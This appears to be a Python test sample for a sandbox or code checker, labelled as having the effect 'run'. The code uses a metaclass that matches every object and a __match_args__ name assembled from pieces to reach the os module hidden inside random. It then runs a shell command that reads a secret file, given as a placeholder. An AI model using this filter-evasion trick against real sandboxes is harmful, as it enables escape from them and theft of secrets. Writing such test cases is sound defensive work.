# __match_args__ names the attributes elsewhere.
# effect: run
import random
class Any(type):
    def __instancecheck__(cls, thing):
        return True
class View(metaclass=Any):
    __match_args__ = ("_" + "os",)
match random:
    case View(module):
        module.system("cat @SECRET@")
